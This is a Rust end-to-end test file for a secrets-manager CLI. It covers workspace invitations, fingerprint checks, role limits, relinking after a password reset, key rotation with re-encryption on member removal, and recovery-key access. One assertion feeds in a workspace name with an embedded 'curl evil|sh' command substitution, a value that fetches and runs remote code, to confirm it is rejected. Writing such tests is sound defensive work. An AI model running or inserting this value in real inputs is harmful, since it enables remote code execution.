//! End to end, with the real binary: workspace members on SQLite and PostgreSQL. Invite,
//! accept, the fingerprint check, roles (read-only cannot write, helpdesk cannot read),
//! a relink after a member's password reset, and removal with a new workspace key, secrets
//! re-encrypted under it, and the recovery key still opening it.

mod support;

use support::{
    Db, Server, User, fingerprints, join, log_in, mail, ok, refused, run, sign_up, stderr, stdout,
};

const NEW_PASSWORD: &str = "a brand new passphrase";

/// Resets a forgotten password with the emailed access code, then signs in again; returns the
/// new fingerprint.
fn reset_password(server: &Server, user: &User, email: &str) -> String {
    let url = server.url.as_str();
    ok(
        user,
        &["password", "forgot", "--server", url, "--email", email],
    );
    let text = mail(server, email, "access code is ");
    let at = text.find("access code is ").unwrap() + "access code is ".len();
    let code = &text[at..at + 8];
    let out = run(
        user,
        &[
            "password",
            "reset",
            "--server",
            url,
            "--email",
            email,
            "--code",
            code,
            "--i-understand",
        ],
        &[("KEYHAVEN_NEW_PASSWORD", NEW_PASSWORD)],
        "",
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    log_in(server, user, email, NEW_PASSWORD)
}

fn key_version(user: &User) -> u64 {
    let out = ok(user, &["member", "list", "--json"]);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    v["workspace_key_version"].as_u64().unwrap()
}

fn members_story(db: Db) {
    let server = Server::start(db);

    // Alice's workspace, with a secret; the welcome email holds its temporary recovery key.
    let (alice, _) = sign_up(&server, "alice@example.com");
    ok(&alice, &["workspace", "create", "Acme"]);
    let welcome = mail(&server, "alice@example.com", "Welcome to Keyhaven");
    let recovery_key = welcome
        .lines()
        .map(str::trim)
        .find(|l| l.len() == 55 && l.split('-').count() == 8)
        .expect("the temporary recovery key")
        .to_owned();
    let out = run(&alice, &["secret", "add", "payroll"], &[], "hunter2\n");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));

    // Bob is invited; until he accepts and Alice confirms his fingerprint, he is not in.
    let (bob, bob_fingerprint) = sign_up(&server, "bob@example.com");
    let out = ok(&alice, &["member", "invite", "bob@example.com"]);
    assert!(
        out.contains("Invited bob@example.com to Acme as member"),
        "{out}"
    );
    let invitation = mail(&server, "bob@example.com", "invited you");
    // The command in the mail names the workspace by id, never by its (user-chosen) name.
    let show = ok(&alice, &["workspace", "show", "--json"]);
    let acme_id = serde_json::from_str::<serde_json::Value>(&show).unwrap()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(
        invitation.contains(&format!("keyhaven member accept {acme_id}\r\n")),
        "{invitation}"
    );
    // A name that would do something inside a shell command is refused.
    let err = refused(&alice, &["workspace", "create", "IT Dept $(curl evil|sh)"]);
    assert!(err.contains("cannot contain"), "{err}");
    let out = ok(&alice, &["member", "list"]);
    assert!(
        out.contains("Invitations (from the server, not verified):"),
        "{out}"
    );
    assert!(out.contains("waiting for them to accept"), "{out}");
    refused(&bob, &["secret", "list", "--workspace", "Acme"]);

    let out = ok(&bob, &["member", "accept", &acme_id]);
    assert_eq!(fingerprints(&out), vec![bob_fingerprint.clone()], "{out}");
    assert!(
        mail(&server, "alice@example.com", "accepted your invitation")
            .contains("keyhaven member invite bob@example.com")
    );

    // Without a terminal, the fingerprint cannot be confirmed: nothing happens without --yes.
    let out = run(&alice, &["member", "invite", "bob@example.com"], &[], "y\n");
    assert_eq!(out.status.code(), Some(1));
    assert!(stdout(&out).contains(&bob_fingerprint), "{}", stdout(&out));
    assert!(
        stderr(&out).contains("hint: compare the fingerprint"),
        "{}",
        stderr(&out)
    );
    refused(&bob, &["secret", "list", "--workspace", "Acme"]);
    let out = run(
        &alice,
        &["member", "invite", "bob@example.com", "--yes"],
        &[],
        "",
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(stdout(&out).contains(&bob_fingerprint), "{}", stdout(&out));
    assert!(stderr(&out).contains("warning: --yes"), "{}", stderr(&out));
    assert!(stdout(&out).contains("Added bob@example.com to Acme as member"));

    // Bob reads and writes.
    assert_eq!(
        ok(&bob, &["secret", "get", "payroll"]),
        "password: hunter2\n"
    );
    let out = run(
        &bob,
        &["secret", "add", "bob-note", "--kind", "note"],
        &[],
        "hi\n",
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));

    // Read-only: Bob still reads, but cannot write (refused by the server) nor manage members.
    let out = ok(&alice, &["member", "role", "bob@example.com", "read-only"]);
    assert!(
        out.contains("bob@example.com is now read-only in Acme"),
        "{out}"
    );
    assert!(
        !out.contains("workspace key is now"),
        "nothing to rotate: {out}"
    );
    assert_eq!(ok(&bob, &["secret", "get", "bob-note"]), "text: hi\n");
    let out = run(&bob, &["secret", "add", "more"], &[], "x\n");
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("this role cannot write secrets"),
        "{}",
        stderr(&out)
    );
    let err = refused(&bob, &["member", "invite", "eve@example.com"]);
    assert!(
        err.contains("only owners and admins manage members"),
        "{err}"
    );
    // The roster rules hold on the client too: the last owner stays.
    let err = refused(&alice, &["member", "role", "alice@example.com", "admin"]);
    assert!(err.contains("the last owner cannot be demoted"), "{err}");

    // Carol, helpdesk: she gets the escrow key but not the workspace key; the server refuses
    // her the secrets as well.
    let (carol, _) = sign_up(&server, "carol@example.com");
    join(&server, &alice, &carol, "carol@example.com", "helpdesk");
    let err = refused(&carol, &["secret", "list"]);
    assert!(err.contains("this role cannot read secrets"), "{err}");
    // Made admin, she receives every workspace-key version and reads; made helpdesk again, she
    // has seen the current workspace key, so it is rotated (to alice, bob and the recovery key).
    ok(&alice, &["member", "role", "carol@example.com", "admin"]);
    assert_eq!(
        ok(&carol, &["secret", "get", "payroll"]),
        "password: hunter2\n"
    );
    let out = ok(&alice, &["member", "role", "carol@example.com", "helpdesk"]);
    assert!(
        out.contains("workspace key is now version 2 (shared with 3 recipients"),
        "{out}"
    );
    refused(&carol, &["secret", "list"]);
    assert_eq!(
        ok(&bob, &["secret", "get", "payroll"]),
        "password: hunter2\n"
    );

    // Dave, member, resets his password: his new keys open nothing until Alice relinks him.
    let (dave, dave_old) = sign_up(&server, "dave@example.com");
    join(&server, &alice, &dave, "dave@example.com", "member");
    assert_eq!(
        ok(&dave, &["secret", "get", "payroll"]),
        "password: hunter2\n"
    );
    let dave_new = reset_password(&server, &dave, "dave@example.com");
    assert_ne!(dave_new, dave_old);
    // The server refuses the membership until then (issue 8, item 2), and says what to do.
    let err = refused(&dave, &["secret", "get", "payroll"]);
    assert!(
        err.contains("no authority until it is relinked")
            && err.contains("members ask an owner or admin to run `keyhaven member relink`"),
        "{err}"
    );
    let out = ok(&alice, &["member", "list"]);
    assert!(
        out.contains("needs a relink after a password reset"),
        "{out}"
    );
    let out = run(&alice, &["member", "relink", "dave@example.com"], &[], "");
    assert_eq!(out.status.code(), Some(1), "a terminal or --yes is needed");
    let out = ok(&alice, &["member", "relink", "dave@example.com", "--yes"]);
    assert_eq!(
        fingerprints(&out)[0],
        dave_new,
        "the new fingerprint is shown: {out}"
    );
    assert!(
        out.contains(&dave_old),
        "and the old one from the roster: {out}"
    );
    assert_eq!(
        ok(&dave, &["secret", "get", "payroll"]),
        "password: hunter2\n"
    );
    let out = ok(&alice, &["member", "list"]);
    assert!(!out.contains("needs a relink"), "{out}");

    // Removing Bob rotates the workspace key and re-encrypts every secret under it.
    assert_eq!(key_version(&alice), 2);
    let out = ok(
        &alice,
        &["member", "remove", "bob@example.com", "--reencrypt"],
    );
    assert!(out.contains("Removed bob@example.com from Acme."), "{out}");
    assert!(
        out.contains("workspace key is now version 3 (shared with 3 recipients"),
        "alice, dave and the recovery key (not helpdesk carol): {out}"
    );
    assert!(!out.contains("escrow key"), "bob never had it: {out}");
    assert!(
        out.contains("Re-encrypted 2 secrets under workspace key version 3"),
        "{out}"
    );
    assert_eq!(key_version(&alice), 3);
    let out = ok(&alice, &["secret", "get", "payroll", "--json"]);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["revision"], 2, "rewritten as the next revision");
    assert_eq!(v["fields"]["password"], "hunter2");
    // Bob is out: the server refuses him, and what he could open was version 1 only.
    let err = refused(&bob, &["secret", "get", "payroll", "--workspace", "Acme"]);
    assert!(
        err.contains("no longer lists") && err.contains("removed"),
        "{err}"
    );
    // A re-run (as after an interruption) finds nothing left to do.
    let out = ok(
        &alice,
        &["member", "remove", "bob@example.com", "--reencrypt"],
    );
    assert!(out.contains("not a member of Acme; finishing"), "{out}");
    assert!(
        out.contains("Re-encrypted 0 secrets under workspace key version 3 (2 already were)"),
        "{out}"
    );
    // Dave, still a member, reads the re-encrypted secrets.
    assert_eq!(ok(&dave, &["secret", "get", "bob-note"]), "text: hi\n");

    // Removing Carol (helpdesk) rotates the escrow key, not the workspace key.
    let out = ok(&alice, &["member", "remove", "carol@example.com"]);
    assert!(out.contains("The escrow key is now version 2."), "{out}");
    assert!(!out.contains("workspace key is now"), "{out}");
    assert_eq!(key_version(&alice), 3);

    // The recovery key received version 3: after Alice forgets her password, the temporary
    // key from the welcome email restores her access to the re-encrypted secret.
    reset_password(&server, &alice, "alice@example.com");
    refused(&alice, &["secret", "get", "payroll"]);
    let out = run(
        &alice,
        &["recovery-key", "use"],
        &[("KEYHAVEN_RECOVERY_KEY", &recovery_key)],
        "",
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        ok(&alice, &["secret", "get", "payroll"]),
        "password: hunter2\n"
    );
    let out = ok(&alice, &["member", "list", "--json"]);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    let emails: Vec<&str> = v["members"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["email"].as_str().unwrap())
        .collect();
    assert_eq!(emails.len(), 2);
    assert!(emails.contains(&"alice@example.com") && emails.contains(&"dave@example.com"));
}

#[test]
fn members_on_sqlite() {
    members_story(Db::Sqlite);
}

#[test]
fn members_on_postgres() {
    members_story(Db::Postgres);
}
